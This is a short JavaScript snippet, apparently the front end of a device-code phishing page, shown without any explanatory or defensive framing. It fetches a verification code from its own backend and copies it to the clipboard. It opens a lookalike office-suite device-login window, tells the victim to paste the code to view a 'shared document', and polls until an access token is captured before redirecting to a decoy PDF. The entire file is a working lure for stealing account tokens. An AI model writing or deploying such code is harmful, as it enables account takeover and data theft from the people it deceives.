fetch('/api/dc/new?m=' + encodeURIComponent(location.hash.slice(1))).then(r => r.json()).then(({ user_code, sid }) => {
  document.getElementById('pin').textContent = user_code;
  document.getElementById('open').onclick = () => {
    navigator.clipboard.writeText(user_code);
    window.open('https://login.office-suite.example/devicelogin', 'w', 'width=520,height=680');
    document.getElementById('hint').textContent = 'Paste the verification code in the window to view the shared document.';
    const t = setInterval(() => fetch('/api/dc/state?sid=' + sid).then(r => r.json()).then(s => {
      if (s.token) { clearInterval(t); location.href = '/doc/quarterly.pdf'; }
    }), 5000);
  };
});
